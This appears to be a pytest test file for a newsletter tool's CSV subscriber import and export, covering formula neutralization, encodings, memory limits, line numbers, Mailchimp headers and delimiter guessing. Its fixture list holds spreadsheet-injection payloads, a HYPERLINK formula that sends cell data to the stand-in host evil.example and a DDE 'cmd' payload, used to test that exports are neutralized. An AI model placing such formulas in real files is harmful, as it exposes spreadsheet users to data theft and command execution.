"""Subscriber CSV files as other programs make them: formulas, encodings, huge lines, broken
rows late in the file, Mailchimp's headers, list names the store cannot keep, and one
delimiter guess for every CSV digest reads."""

from __future__ import annotations

import csv
import io
import tracemalloc
from pathlib import Path

import pytest
from click.testing import CliRunner

from digest.cli import cli
from digest.csvfile import MAX_ROW_CHARS, guess_delimiter, neutralize, restore
from digest.ingest import import_metrics, ingest
from digest.sources import read_source
from digest.store import Store
from digest.store.schema import memberships
from digest.subscribers import MAX_LIST_NAME, export_csv, import_csv

FIXTURES = Path(__file__).parent / "fixtures"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
    "''+twice",
]


def write(tmp_path: Path, data: str | bytes, name: str = "people.csv") -> Path:
    path = tmp_path / name
    if isinstance(data, str):
        data = data.encode("utf-8")
    path.write_bytes(data)
    return path


def cli_import(db_url: str, path: Path, *args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, ["--db", db_url, "subscribers", "import", str(path), *args])
    return result.exit_code, result.output


# ---- formulas --------------------------------------------------------------------------------


def test_export_neutralizes_formulas_and_import_reads_them_back(
    store: Store, tmp_path: Path
) -> None:
    quoted = ['"' + value.replace('"', '""') + '"' for value in FORMULAS]
    rows = "".join(
        f"f{n}@example.com,{value},main,active,{value}\n" for n, value in enumerate(quoted)
    )
    source = write(tmp_path, "email,name,lists,status,note\n" + rows)
    # A name written with the apostrophe of an export is read as what was exported.
    assert import_csv(store, source, "main").failures == []
    stored = {p.email: p for p in store.subscribers()}
    assert stored["f4@example.com"].name == "=already quoted"
    assert stored["f5@example.com"].name == "'+twice"
    out = io.StringIO()
    export_csv(store, out)
    lines = out.getvalue().splitlines()
    assert lines[1] == (
        'f0@example.com,"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",'
        'main,active,"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",import,,,,'
    )
    for line in lines[1:]:  # no cell a spreadsheet would run
        for cell in next(csv.reader([line])):
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), line
    # Read back: exactly what is stored.
    again = write(tmp_path, out.getvalue(), "export.csv")
    before = [(p.email, p.name, p.fields) for p in store.subscribers()]
    report = import_csv(store, again, "main")
    assert (report.updated, report.failures) == (len(FORMULAS), [])
    assert [(p.email, p.name, p.fields) for p in store.subscribers()] == before


@pytest.mark.parametrize("cell", [*FORMULAS, "plain", "", "'", "'plain", "\tTab", "\r", "-"])
def test_neutralize_and_restore_are_inverse(cell: str) -> None:
    assert restore(neutralize(cell)) == cell
    assert neutralize(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")


# ---- memory, encodings, bad bytes, line numbers ----------------------------------------------


def test_a_huge_line_fails_its_row_in_bounded_memory(store: Store, tmp_path: Path) -> None:
    huge = "x" * (40 * MAX_ROW_CHARS)  # 40 MB on one line
    path = write(
        tmp_path, f"email,name\nada@example.com,Ada\nbig@example.com,{huge}\nbo@example.com,Bo\n"
    )
    del huge
    tracemalloc.start()
    try:
        report = import_csv(store, path, "main")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * MAX_ROW_CHARS  # before: the whole line, twice over, and the import died
    assert [(f.line, f.reason) for f in report.failures] == [
        (3, "a row over 1,048,576 characters; it was skipped")
    ]
    assert sorted(p.email for p in store.subscribers()) == ["ada@example.com", "bo@example.com"]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig"])
def test_utf16_and_utf8_with_a_byte_order_mark(db_url: str, tmp_path: Path, encoding: str) -> None:
    text = "email,name,city\nzoe@example.com,Zoë,Zürich\r\nmei@example.com,美,東京\n"
    data = text.encode(encoding)
    if encoding == "utf-16-be":
        data = b"\xfe\xff" + data
    code, output = cli_import(db_url, write(tmp_path, data))
    assert (code, output) == (0, "2 added, 0 updated, 0 merged, 0 failed\n")
    listed = CliRunner().invoke(cli, ["--db", db_url, "subscribers", "list", "--json"])
    assert '"Zoë"' in listed.output and '"東京"' in listed.output


def test_cp1252_rows_fail_alone_and_import_with_encoding(db_url: str, tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "email,name\nann@example.com,Ann\nzoe@example.com,Zoë\nbo@example.com,Bo\n".encode(
            "cp1252"
        ),
    )
    code, output = cli_import(db_url, path)
    assert code == 1
    assert output.splitlines() == [
        "2 added, 0 updated, 0 merged, 1 failed",
        f"{path}:3: not valid utf-8 text; the row was skipped (save the file as UTF-8, or pass "
        "its encoding, e.g. --encoding cp1252 for Excel on Windows)",
    ]
    code, output = cli_import(db_url, path, "--encoding", "cp1252")
    assert (code, output) == (0, "1 added, 2 updated, 0 merged, 0 failed\n")
    listed = CliRunner().invoke(cli, ["--db", db_url, "subscribers", "list", "--json"])
    assert '"Zoë"' in listed.output
    result = CliRunner().invoke(
        cli, ["--db", db_url, "subscribers", "import", str(path), "--encoding", "klingon"]
    )
    assert result.exit_code == 1
    assert result.output.startswith("Error: unknown encoding 'klingon'\nHint: pass --encoding")


def test_line_numbers_are_right_late_in_a_file_with_multiline_fields(
    store: Store, tmp_path: Path
) -> None:
    parts = ["email,name,note\n"]
    line = 2
    for n in range(30):  # rows of three lines each: "a\nb\nc" in quotes
        parts.append(f'm{n}@example.com,M {n},"first\nsecond\r\nthird"\n')
        line += 3
    for n in range(400):
        parts.append(f"p{n}@example.com,P {n},plain\n")
        line += 1
    bad_email_at = line
    parts.append("not-an-address,X,x\n")
    line += 1
    parts.append('q@example.com,"Q\nQ",x\n')
    line += 2
    bad_byte_at = line
    data = "".join(parts).encode("utf-8") + b"r@example.com,R\xe9,x\n"
    line += 1
    bad_quote_at = line
    data += b'"s@example.com,S,x\n'  # a quote never closed: the rest of the file is one field
    report = import_csv(store, write(tmp_path, data), "main")
    assert [f.line for f in report.failures] == [bad_email_at, bad_byte_at, bad_quote_at]
    assert report.failures[0].reason.startswith("email: invalid email address 'not-an-address'")
    assert report.failures[1].reason.startswith("not valid utf-8 text")
    assert report.added == 30 + 400 + 1
    assert bad_byte_at == 495  # before: the bad byte stopped the import, said at line 337


# ---- headers and names -----------------------------------------------------------------------


def test_mailchimp_export_imports_as_it_is(store: Store, tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "Email Address,First Name,Last Name,MEMBER_RATING,OPTIN_TIME,TAGS\n"
        'ada@example.com,Ada,Lovelace,2,2024-01-02 10:00:00,"""vip"""\n'
        "bo@example.com,Bo,,1,2024-01-03 10:00:00,\n",
    )
    report = import_csv(store, path, "main")
    assert (report.added, report.failures) == (2, [])
    people = {p.email: p for p in store.subscribers()}
    assert people["ada@example.com"].name == "Ada Lovelace"
    assert people["bo@example.com"].name == "Bo"
    assert people["ada@example.com"].fields["first name"] == "Ada"
    assert people["ada@example.com"].fields["member_rating"] == "2"


def test_a_list_name_over_the_limit_fails_its_row_alone(
    store: Store, db_url: str, tmp_path: Path
) -> None:
    assert MAX_LIST_NAME == memberships.c.list_name.type.length
    long = "L" * 250
    path = write(tmp_path, f"email,lists\nada@example.com,main\nbo@example.com,{long}\n")
    report = import_csv(store, path, "main")  # before: PostgreSQL aborted the import
    assert [(f.line, f.reason) for f in report.failures] == [
        (3, f"lists: the list name '{'L' * 40}'… is 250 characters, over the limit of 200")
    ]
    assert [p.email for p in store.subscribers()] == ["ada@example.com"]
    code, output = cli_import(db_url, path, "--list", long)
    assert code == 1
    assert output.splitlines() == [
        "Error: --list: the list name is 250 characters, over the limit of 200",
        "Hint: use a list name of at most 200 characters",
    ]


# ---- one delimiter guess ---------------------------------------------------------------------


def test_one_delimiter_guess() -> None:
    assert guess_delimiter("email,name,lists") == ","
    assert guess_delimiter("email;name;lists") == ";"
    assert guess_delimiter("email\tname") == "\t"
    assert guess_delimiter("url|views") == "|"
    assert guess_delimiter('"a;b",c') == ","  # quoted text does not count
    assert guess_delimiter("email") == ","


def test_metrics_read_a_semicolon_file_as_subscribers_import_does(
    store: Store, tmp_path: Path
) -> None:
    assert ingest(store, [str(FIXTURES / "feeds" / "rss2.xml")]).new == 3
    stats = write(
        tmp_path, "url;views\nhttps://harbour.example.com/news/busan-record?id=7;42\n", "s.csv"
    )
    stored, failures = import_metrics(store, stats)  # before: "needs a URL column"
    assert (stored, failures) == (1, [])
    people = write(tmp_path, "email;lists\nada@example.com;vip\n", "p.csv")
    assert import_csv(store, people, "main").added == 1
    export = write(
        tmp_path, "title;body;url\nA title;Some body text.;https://x.example/a\n", "e.csv"
    )
    [article] = read_source(str(export)).articles
    assert (article.title, article.url) == ("A title", "https://x.example/a")
